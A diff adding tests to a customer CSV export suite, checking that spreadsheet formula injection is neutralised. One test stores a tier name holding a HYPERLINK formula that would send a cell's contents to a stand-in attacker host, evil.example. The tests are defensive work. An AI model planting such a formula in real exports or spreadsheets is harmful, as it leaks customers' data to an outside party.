@@ -5,7 +5,7 @@ import { SEGMENTS } from "~/core/metrics/rfm";
 import prisma from "~/db.server";
 import { loader } from "~/routes/app.customers.export";
 import { refreshClv } from "~/insight/clv-refresh.server";
-import { customersCsv } from "~/insight/customer-export.server";
+import { csvField, customersCsv } from "~/insight/customer-export.server";
 import { listCustomers, parseCustomerListQuery } from "~/insight/customers-list.server";
 import { seedDemoStore } from "~/demo/demo-store.server";
 import { stopJobQueue } from "~/platform/jobs.server";
@@ -111,6 +111,48 @@ describe("GET /app/customers/export", () => {
         .slice(1)
         .map((row) => row.split(",")[0]),
     ).toEqual(["7"]);
+  });
+
+  it("writes a tier name that looks like a formula as text, in every row", async () => {
+    const shop = uniqueShop("export-formula");
+    await ensureShop(shop);
+    await storeOfflineSession(shop);
+    const name = '=HYPERLINK("https://evil.example/?"&A2,"Gold")';
+    const tiers = {
+      basis: "netSpend" as const,
+      window: "lifetime" as const,
+      review: "never" as const,
+      levels: [{ id: "evil", name, threshold: "0" }],
+    };
+    await saveLoyaltyProgram(
+      shop,
+      { enabled: true, settings: { earnRate: "1", tiers } },
+      "staff 1",
+      new Date("2025-01-01"),
+    );
+    const order = (id: bigint, customer: bigint) =>
+      orderPayload({ id, updatedAt: "2026-01-01T00:00:00Z", customer: { id: customer }, subtotalCents: 1_000 });
+    await deliver({ topic: "orders/create", shop, payload: order(1n, 7n) });
+    await deliver({ topic: "orders/create", shop, payload: order(2n, 8n) });
+    const response = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export")));
+    const rows = (await response.text()).trimEnd().split("\n").slice(1);
+    expect(rows).toHaveLength(2);
+    for (const row of rows) expect(row.endsWith(`,"'${name.replace(/"/g, '""')}"`)).toBe(true);
+  });
+
+  it("neutralises every cell a spreadsheet would run as a formula, and leaves numbers alone", () => {
+    expect(csvField("=1+1")).toBe("'=1+1");
+    expect(csvField("+1")).toBe("'+1");
+    expect(csvField("-1+2")).toBe("'-1+2");
+    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    expect(csvField("=A1,B1")).toBe(`"'=A1,B1"`);
+    // Negative amounts (refunds) stay numbers; ordinary text is untouched.
+    expect(csvField("-12.50")).toBe("-12.50");
+    expect(csvField("-3")).toBe("-3");
+    expect(csvField("Gold")).toBe("Gold");
+    expect(csvField("Silver, the first")).toBe('"Silver, the first"');
   });
 
   it("pages through many customers", async () => {
